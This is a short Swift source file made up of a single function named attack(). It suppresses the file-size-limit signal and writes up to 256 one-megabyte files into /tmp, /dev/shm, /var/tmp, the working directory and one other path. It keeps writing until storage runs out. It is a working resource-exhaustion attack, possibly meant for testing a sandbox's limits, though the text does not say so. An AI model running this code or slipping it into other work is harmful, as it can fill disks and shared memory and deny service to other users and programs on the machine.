// Writes wherever it may, as much as it may.

import Foundation

func attack() {
  signal(SIGXFSZ, SIG_IGN)
  let block = Data(repeating: 1, count: 1 << 20)
  for folder in ["/tmp", ".", "/dev/shm", "/torito", "/var/tmp"] {
    for number in 0..<256 {
      let path = "\(folder)/fill-\(number)"
      guard FileManager.default.createFile(atPath: path, contents: block) else { break }
    }
  }
}
